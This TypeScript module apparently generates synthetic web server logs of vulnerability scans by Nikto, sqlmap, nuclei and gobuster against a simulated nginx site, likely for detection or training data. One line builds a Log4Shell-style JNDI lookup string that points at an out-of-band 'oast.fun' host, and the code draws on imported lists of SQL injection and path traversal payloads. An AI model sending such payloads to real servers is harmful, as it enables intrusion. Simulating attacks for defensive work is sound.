/**
 * Web vulnerability scans of the public site from one address: Nikto's check list, sqlmap
 * hammering one parameter with injection payloads, nuclei templates, or a gobuster directory
 * brute force. Mostly 404s; scanner User-Agents, though nuclei and sqlmap often pose as browsers.
 */
import type { GenerationContext, HostRuntime } from '../context.js';
import type { Random } from '../random.js';
import type { AttackGenerator, EpisodeSummary } from './episode.js';
import type { EpisodeRef } from '../log-stream.js';
import { minutes, seconds } from '../clock.js';
import { logRequest } from '../sequences/http.js';
import { BROWSER_USER_AGENTS } from '../catalog/user-agents.js';
import { DIRECTORY_WORDS, SCANNER_PATHS, SCANNER_USER_AGENTS, SQLMAP_RANDOM_AGENTS, SQL_INJECTION_PAYLOADS, TRAVERSAL_TARGETS } from '../catalog/web-attacks.js';

const NOT_FOUND_BYTES = 4_218;
const PAGE_BYTES = 18_342;
/** Site endpoints that take a parameter (and ignore or choke on what they do not expect). */
const INJECTABLE = [
  { path: '/search', parameter: 'q', value: 'pricing' },
  { path: '/blog/', parameter: 'p', value: '42' },
  { path: '/download', parameter: 'file', value: 'whitepaper.pdf' },
  { path: '/docs/', parameter: 'lang', value: 'en' },
];

interface Response {
  status: number;
  bytes: number;
}

/** nginx decodes the path and refuses (400) one whose `..` segments climb above the root. */
function climbsAboveRoot(target: string): boolean {
  const path = target.split('?')[0] ?? '';
  let decoded: string;
  try {
    decoded = decodeURIComponent(path);
  } catch {
    return true;
  }
  let depth = 0;
  for (const segment of decoded.split('/')) {
    if (segment === '..') depth--;
    else if (segment !== '' && segment !== '.') depth++;
    if (depth < 0) return true;
  }
  return false;
}

/** How this nginx + app answers a scanner's request. */
function respond(rng: Random, method: string, target: string): Response {
  if (climbsAboveRoot(target)) return { status: 400, bytes: 166 };
  if (method !== 'GET' && method !== 'HEAD' && method !== 'POST') return { status: 405, bytes: 166 };
  if (/\/\.ht(access|passwd)$/.test(target)) return { status: 403, bytes: 162 };
  if (target === '/' || INJECTABLE.some((endpoint) => target.startsWith(`${endpoint.path}?`))) {
    // The app fails on some injected syntax.
    return rng.chance(0.12) ? { status: 500, bytes: 1_843 } : { status: 200, bytes: PAGE_BYTES + rng.int(-300, 300) };
  }
  if (target === '/blog' || target === '/docs') return { status: 301, bytes: 162 };
  return { status: 404, bytes: NOT_FOUND_BYTES };
}

function sqlPayload(rng: Random, value: string): string {
  const n = rng.int(1000, 9999);
  return rng
    .pick(SQL_INJECTION_PAYLOADS)
    .replaceAll('{v}', value)
    .replaceAll('{n}', String(n))
    .replaceAll('{m}', String(n + rng.int(1, 500)))
    .replaceAll('{h}', rng.chars('0123456789abcdef', 16))
    .replaceAll('{w}', rng.chars('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ', 4));
}

class Scan {
  constructor(
    private readonly ctx: GenerationContext,
    private readonly rng: Random,
    private readonly host: HostRuntime,
    private readonly clientIp: string,
    private readonly origin: EpisodeRef,
  ) {}

  send(time: number, method: string, target: string, userAgent: string): void {
    const { status, bytes } = respond(this.rng, method, target);
    logRequest(this.ctx, this.rng, this.host, time, { clientIp: this.clientIp, request: `${method} ${target} HTTP/1.1`, status, bytes: method === 'HEAD' ? 0 : bytes, userAgent }, this.origin);
  }
}

type Variant = 'nikto' | 'sqlmap' | 'nuclei' | 'gobuster';

function nikto(rng: Random, scan: Scan, start: number): number {
  const requests = rng.int(400, 1500);
  const gap = minutes(rng.between(3, 12)) / requests;
  let time = start;
  for (let test = 1; test <= requests; test++) {
    const roll = rng.float();
    const method = roll < 0.03 ? rng.pick(['OPTIONS', 'PROPFIND', 'TRACE', 'DEBUG']) : roll < 0.08 ? 'HEAD' : 'GET';
    const target =
      test === 1 ? '/' : rng.chance(0.6) ? rng.pick(SCANNER_PATHS) : rng.chance(0.2) ? rng.pick(TRAVERSAL_TARGETS) : `/${rng.pick(DIRECTORY_WORDS)}.${rng.pick(['php', 'asp', 'cgi', 'pl', 'bak', 'old', 'inc'])}`;
    scan.send(time, method, target, SCANNER_USER_AGENTS.nikto(test));
    time += Math.round(rng.exponential(gap));
  }
  return requests;
}

function sqlmap(rng: Random, scan: Scan, start: number): number {
  const endpoint = rng.pick(INJECTABLE);
  const userAgent = rng.chance(0.6) ? SCANNER_USER_AGENTS.sqlmap : rng.pick(SQLMAP_RANDOM_AGENTS);
  const requests = rng.int(80, 400);
  const gap = minutes(rng.between(2, 10)) / requests;
  let time = start;
  scan.send(time, 'GET', `${endpoint.path}?${endpoint.parameter}=${endpoint.value}`, userAgent);
  for (let i = 1; i < requests; i++) {
    const payload = sqlPayload(rng, endpoint.value);
    scan.send(time, 'GET', `${endpoint.path}?${endpoint.parameter}=${encodeURIComponent(payload)}`, userAgent);
    // Time-based payloads hold the response five seconds.
    time += Math.round(rng.exponential(gap)) + (payload.includes('SLEEP') ? seconds(5) : 0);
  }
  return requests;
}

function nuclei(rng: Random, scan: Scan, start: number): number {
  const userAgent = rng.chance(0.5) ? SCANNER_USER_AGENTS.nuclei : rng.pick(BROWSER_USER_AGENTS);
  const requests = rng.int(300, 1200);
  const gap = minutes(rng.between(2, 8)) / requests;
  let time = start;
  for (let i = 0; i < requests; i++) {
    const roll = rng.float();
    let target: string;
    if (roll < 0.65) target = rng.pick(SCANNER_PATHS);
    else if (roll < 0.8) target = rng.pick(TRAVERSAL_TARGETS);
    else if (roll < 0.9) target = `/?x=${encodeURIComponent(`\${jndi:ldap://${rng.chars('abcdefghijklmnopqrstuvwxyz0123456789', 20)}.oast.fun/a}`)}`;
    else {
      const endpoint = rng.pick(INJECTABLE);
      target = `${endpoint.path}?${endpoint.parameter}=${encodeURIComponent(sqlPayload(rng, endpoint.value))}`;
    }
    scan.send(time, rng.chance(0.9) ? 'GET' : 'POST', target, userAgent);
    time += Math.round(rng.exponential(gap));
  }
  return requests;
}

function gobuster(rng: Random, scan: Scan, start: number): number {
  const requests = rng.int(1000, 3000);
  const gap = minutes(rng.between(2, 6)) / requests;
  let time = start;
  for (let i = 0; i < requests; i++) {
    const word = `${rng.pick(DIRECTORY_WORDS)}${rng.chance(0.3) ? rng.int(1, 9) : ''}`;
    const suffix = rng.pick(['', '', '/', '.php', '.bak', '.zip', '.txt', '.old']);
    scan.send(time, 'GET', `/${word}${suffix}`, SCANNER_USER_AGENTS.gobuster);
    time += Math.round(rng.exponential(gap));
  }
  return requests;
}

const VARIANTS: Record<Variant, (rng: Random, scan: Scan, start: number) => number> = { nikto, sqlmap, nuclei, gobuster };

export const webScan: AttackGenerator = (ctx, rng, plan): EpisodeSummary => {
  const host = rng.pick(ctx.hostsWhere((spec) => spec.nginx));
  const clientIp = ctx.internet.scanner(rng, 0.1);
  const variant = rng.pick(Object.keys(VARIANTS) as Variant[]);
  const requests = VARIANTS[variant](rng, new Scan(ctx, rng, host, clientIp, plan), plan.start);
  return { source: clientIp, target: host.name, detail: `${variant}, ${requests} requests` };
};
